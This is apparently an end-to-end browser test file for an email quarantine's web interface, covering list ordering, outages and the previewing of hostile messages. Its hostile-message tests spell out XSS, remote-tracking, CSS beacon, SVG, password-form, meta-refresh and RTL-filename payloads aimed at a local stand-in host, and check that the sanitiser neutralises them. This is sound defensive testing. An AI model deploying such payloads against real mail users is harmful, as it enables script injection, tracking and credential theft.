// The list and the preview, point by point: orders, classes, hostile messages of each kind, attachments.
import { once } from 'node:events'
import { createServer, type AddressInfo, type Server } from 'node:net'
import type { Page } from 'playwright-core'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { hold, ROOT } from '../quarantine/rig.ts'
import { inside, type Inside } from './inside.ts'
import { account, CHROMIUM, loggedIn, logIn, mail, PASSWORD } from './visitors.ts'

let on: Inside
let listener: Server
let called = 0
let evil = ''
const USER = 'user@example.com'
const root = () => on.lazaret.quarantine.as(ROOT)
const held = async (raw: string, to = USER): Promise<number> => {
  const [{ item }] = await hold(on.lazaret, Buffer.from(raw.replaceAll(/\r?\n/g, '\r\n'), 'utf8'), {
    to: [to],
  })
  return item as number
}
const row = (page: Page, subject: string) => page.locator('tr[data-item]', { hasText: subject })

beforeAll(async () => {
  if (CHROMIUM === undefined) return
  on = await inside({ settings: { release_delay: '3600' } })
  await account(on, USER)
  listener = createServer((socket) => socket.destroy())
  listener.on('connection', () => called++)
  listener.listen(0, '127.0.0.1')
  await once(listener, 'listening')
  evil = `http://127.0.0.1:${(listener.address() as AddressInfo).port}`
})
afterAll(async () => {
  await on?.close()
  listener?.close()
})

describe.skipIf(CHROMIUM === undefined)('the list', () => {
  const LIST = 'list@example.com'

  test('each order is that of the server, and the address keeps it; classes have their counts', async () => {
    await account(on, LIST)
    for (const [subject, from] of [
      ['One', 'Zoe <zoe@a.example>'],
      ['Two', 'Adam <adam@b.example>'],
      ['Three', 'Mia <mia@c.example>'],
    ])
      await held(mail(subject, from), LIST)
    const gone = await held(mail('Gone'), LIST)
    await root().items.delete(gone)
    const page = await loggedIn(on, LIST)
    for (const order of ['newest', 'expires', 'sender', 'wanted'] as const) {
      await page.getByLabel('Order').selectOption(order)
      await page.waitForURL((url) => url.hash.includes(`order=${order}`))
      const { items } = await root().items.list({ scope: LIST, chip: 'caught', order })
      const ids = items.map(({ item }) => String(item.id))
      await expect
        .poll(() =>
          page.evaluate(
            `[...document.querySelectorAll('tr[data-item]')].map((one) => one.dataset.item)`,
          ),
        )
        .toEqual(ids)
    }
    const counts = await root().items.counts(LIST)
    const chips = page.getByRole('navigation', { name: 'Classes' }).getByRole('link')
    const words = [
      'all',
      'caught',
      'doubtful',
      'outgoing',
      'copies',
      'released',
      'learned',
      'failed',
      'deleted',
    ] as const
    expect((await chips.allInnerTexts()).map((text) => Number(/\d+/.exec(text)?.[0]))).toEqual(
      words.map((one) => counts[one]),
    )
    await chips.filter({ hasText: 'Deleted' }).click()
    await row(page, 'Gone').waitFor()
    expect(await page.locator('tr[data-item]').count()).toBe(1)
    await page.goBack()
    await row(page, 'Three').waitFor()
    await page.context().close()
  })

  test('the server gone in the middle: what was done is told and can be taken back, the rest stays marked', async () => {
    const away = 'away@example.com'
    await account(on, away)
    for (let i = 0; i < 3; i++) await held(mail(`Away ${i}`), away)
    const page = await loggedIn(on, away)
    const before = on.complaints.length
    await row(page, 'Away 2').waitFor()
    // Its answer is lost: asked once more it is told, and done once.
    let asked = 0
    await page.route(/items:batch/, async (route) => {
      if (asked++ > 0) return await route.continue()
      await route.fetch()
      await route.abort()
    })
    await row(page, 'Away 0')
      .getByRole('button', { name: /^Release/ })
      .click()
    await page.locator('.told').getByText('One message is released.').waitFor()
    expect((await root().items.counts(away)).released).toBe(1)
    // Gone for good.
    await page.unroute(/items:batch/)
    await page.route(/items/, (route) => route.abort())
    await page.getByRole('checkbox', { name: 'Select all that are shown' }).click()
    await page.getByRole('toolbar').getByRole('button', { name: 'Spam', exact: true }).click()
    await page
      .locator('.told .bad')
      .getByText(/cannot be reached.*with 2 more is not known/)
      .waitFor()
    expect(await page.locator('tr.marked').count()).toBe(2)
    // The list is still to be read, and says what it is.
    await page.locator('.lost').getByText('cannot be reached').waitFor()
    await page.unroute(/items/)
    await page.locator('.lost').getByRole('button', { name: 'Try again' }).click()
    await page.locator('.lost').waitFor({ state: 'detached' })
    expect((await root().items.counts(away)).learned).toBe(0)
    await page.context().close()
    // What was taken from it here the browser tells, and nothing else.
    const told = new Set(on.complaints.splice(before))
    expect([...told]).toEqual(['Failed to load resource: net::ERR_FAILED'])
  })

  test('a login that ended elsewhere is told at once, and leads back to the same place', async () => {
    const page = await loggedIn(on, USER)
    await page.goto(`${on.url}#/quarantine?order=newest`)
    await page
      .getByText(/^(?:All|No mail)/)
      .first()
      .waitFor()
    await root().accounts.setPassword(USER, PASSWORD)
    await page.locator('input[name=username]').waitFor()
    await logIn(page, USER)
    await page.locator('.top').waitFor()
    expect(page.url()).toContain('order=newest')
    await page.context().close()
  })
})

/** A message of several parts. */
const parts = (subject: string, ...all: string[]): string =>
  [
    `From: x@spam.example\nTo: ${USER}\nSubject: ${subject}\nMIME-Version: 1.0`,
    'Content-Type: multipart/related; boundary=b\n',
    ...all.map((one) => `--b\n${one}`),
    '--b--\n',
  ].join('\n')
const html = (text: string): string => `Content-Type: text/html; charset=utf-8\n\n${text}\n`
const PICTURE =
  'Content-Type: image/png\nContent-ID: <pic@x>\nContent-Transfer-Encoding: base64\nContent-Disposition: inline; filename="p.png"\n\niVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==\n'

describe.skipIf(CHROMIUM === undefined)('a hostile message', () => {
  /** What each kind writes, and what is left of it; all have "Dear customer". */
  const KINDS: Record<string, { source: () => string; nothing: RegExp }> = {
    scripts: {
      source: () =>
        `<script>parent.hacked=1;fetch("${evil}/")</script><img src=x onerror="parent.hacked=1"><a href="javascript:parent.hacked=1">go</a><body onload="parent.hacked=1"><iframe srcdoc="<script>top.hacked=1</script>"></iframe>`,
      nothing: /<script|onerror|onload|javascript:|<iframe/i,
    },
    'remote images': {
      source: () =>
        `<img src="${evil}/p"><img srcset="${evil}/s 2x"><picture><source srcset="${evil}/t"></picture><video poster="${evil}/w" src="${evil}/x" autoplay></video><audio src="${evil}/a"></audio><table background="${evil}/b"><tr><td>.</td></tr></table><input type="image" src="${evil}/i"><link rel="icon" href="${evil}/c"><link rel="prefetch" href="${evil}/d">`,
      nothing: /127\.0\.0\.1/,
    },
    CSS: {
      source: () =>
        `<style>@import "${evil}/i"; @font-face{font-family:f;src:url(${evil}/f)} body{background:url(${evil}/b);font-family:f} p::before{content:url(${evil}/c)}</style><link rel=stylesheet href="${evil}/l"><p style="background:u\\72l(${evil}/q);list-style-image:url(${evil}/r);position:fixed;inset:0">.</p>`,
      nothing: /127\.0\.0\.1|position|@import/,
    },
    SVG: {
      source: () =>
        `<svg><image href="${evil}/v"/><use href="${evil}/u#x"/><script>parent.hacked=1</script><a href="javascript:parent.hacked=1"><text>go</text></a><foreignObject><iframe src="${evil}/w"></iframe></foreignObject></svg><math><mtext><img src="${evil}/m"></mtext></math>`,
      nothing: /<svg|<math|127\.0\.0\.1|javascript:/i,
    },
    forms: {
      source: () =>
        `<form action="${evil}/f"><input name=password><textarea>.</textarea><button formaction="${evil}/g">Log in</button></form><isindex action="${evil}/h">`,
      nothing: /<form|<input|<button|127\.0\.0\.1/i,
    },
    'meta refresh, base, frames': {
      source: () =>
        `<base href="${evil}/"><meta http-equiv="refresh" content="0;url=${evil}/m"><object data="${evil}/o"></object><embed src="${evil}/e"><frameset><frame src="${evil}/r"></frameset><iframe src="${evil}/s"></iframe>`,
      nothing: /<base|refresh|<object|<embed|<frame|127\.0\.0\.1/i,
    },
  }

  test('each kind is shown without it, and nothing is loaded from anywhere', async () => {
    const page = await loggedIn(on, USER)
    const strange: string[] = []
    page.on('request', (request) => {
      const { protocol, origin } = new URL(request.url())
      if (protocol !== 'data:' && origin !== new URL(on.url).origin) strange.push(request.url())
    })
    for (const [kind, { source, nothing }] of Object.entries(KINDS)) {
      const id = await held(parts(`Kind ${kind}`, html(`${source()}<p>Dear customer</p>`)))
      await page.goto(`${on.url}#/quarantine?item=${id}`)
      const dialog = page.getByRole('dialog')
      await dialog.getByRole('heading', { name: `Kind ${kind}` }).waitFor()
      await dialog.locator('pre.text', { hasText: 'Dear customer' }).waitFor()
      await dialog.getByRole('tab', { name: 'Formatted' }).click()
      const frame = page.frameLocator('iframe.formatted')
      await frame.getByText('Dear customer').waitFor()
      expect(await frame.locator('html').innerHTML(), kind).not.toMatch(nothing)
      expect(await page.evaluate(`'hacked' in globalThis`), kind).toBe(false)
    }
    expect(strange).toEqual([])
    expect(called).toBe(0)
    await page.context().close()
  })

  test('its own pictures are data; a link says where it leads, and leads nowhere', async () => {
    const source =
      '<p>Dear customer</p><img id="own" src="cid:pic@x"><img src="cid:none@x"><a href="https://evil.example/login">https://bank.example</a>'
    const id = await held(parts('Pictures', html(source), PICTURE))
    const page = await loggedIn(on, USER)
    await page.goto(`${on.url}#/quarantine?item=${id}`)
    await page.getByRole('dialog').getByRole('tab', { name: 'Formatted' }).click()
    const frame = page.frameLocator('iframe.formatted')
    const picture = frame.locator('img[src^="data:image/png"]')
    await picture.waitFor()
    expect(await frame.locator('img').count()).toBe(1)
    // Shown behind it.
    expect(await frame.locator('.link').getAttribute('data-host')).toBe('evil.example')
    const before = page.frames().map((one) => one.url())
    await frame.getByText('https://bank.example').first().click()
    expect(page.frames().map((one) => one.url())).toEqual(before)
    await page.context().close()
  })

  test('broken MIME is shown as far as it goes', async () => {
    const broken: [string, string][] = [
      ['no end', parts('Broken no end', html('<p>Dear customer')).replace('--b--\n', '')],
      [
        'no boundary',
        'Subject: Broken no boundary\nContent-Type: multipart/mixed\n\nDear customer\n',
      ],
      [
        'bad base64',
        'Subject: Broken bad base64\nContent-Type: text/plain\nContent-Transfer-Encoding: base64\n\nRGVhciBjdXN0b21lcg=====%%%\n',
      ],
      [
        'bad charset',
        'Subject: Broken bad charset\nContent-Type: text/plain; charset=x-nonsense\n\nDear customer\n',
      ],
      [
        'nested',
        `Subject: Broken nested\n${'Content-Type: multipart/mixed; boundary=b\n\n--b\n'.repeat(30)}Content-Type: text/plain\n\nDear customer\n`,
      ],
      ['cut in a tag', parts('Broken cut in a tag', html('<p>Dear customer</p><a href="'))],
    ]
    const page = await loggedIn(on, USER)
    for (const [what, raw] of broken) {
      const id = await held(raw)
      await page.goto(`${on.url}#/quarantine?item=${id}`)
      const dialog = page.getByRole('dialog')
      await dialog.getByRole('heading', { name: `Broken ${what}` }).waitFor()
      // Its text, or a sentence that says why not; its source in any case.
      await dialog
        .locator('pre.text, [role=tabpanel] .quiet:not(:has-text("One moment")), .wrong')
        .first()
        .waitFor()
      await dialog.getByRole('tab', { name: 'Source' }).click()
      await dialog.locator('pre', { hasText: `Broken ${what}` }).waitFor()
    }
    await page.context().close()
  })

  test('attachments: name with what hides in it, type, size; to be had where the domain allows', async () => {
    const zip =
      "Content-Type: application/zip\nContent-Transfer-Encoding: base64\nContent-Disposition: attachment; filename*=utf-8''in%E2%80%AEvoice.zip\n\nUEsDBA==\n"
    const id = await held(parts('Attached', html('<p>Dear customer</p>'), zip))
    const page = await loggedIn(on, USER)
    await page.goto(`${on.url}#/quarantine?item=${id}`)
    const dialog = page.getByRole('dialog')
    await dialog.getByRole('tab', { name: 'Attachments' }).click()
    const part = dialog.locator('.parts li', { hasText: 'application/zip' })
    await part.waitFor()
    expect(await part.innerText()).toMatch(/in\[U\+202E\]voice\.zip\s*application\/zip, 4 /)
    expect(await dialog.getByRole('link', { name: /voice/ }).count()).toBe(0)
    await root().settings.set('example.com', 'download_attachments', 'yes')
    await page.reload()
    await dialog.getByRole('tab', { name: 'Attachments' }).click()
    const [download] = await Promise.all([
      page.waitForEvent('download'),
      dialog.getByRole('link', { name: /voice/ }).click(),
    ])
    expect(download.suggestedFilename()).not.toContain('\u202e')
    const chunks: Buffer[] = []
    for await (const chunk of await download.createReadStream()) chunks.push(chunk as Buffer)
    expect(Buffer.concat(chunks).toString('latin1')).toBe('PK\u0003\u0004')
    await page.context().close()
  })

  test('no browser had anything to complain about', () => {
    expect(on.complaints).toEqual([])
  })
})
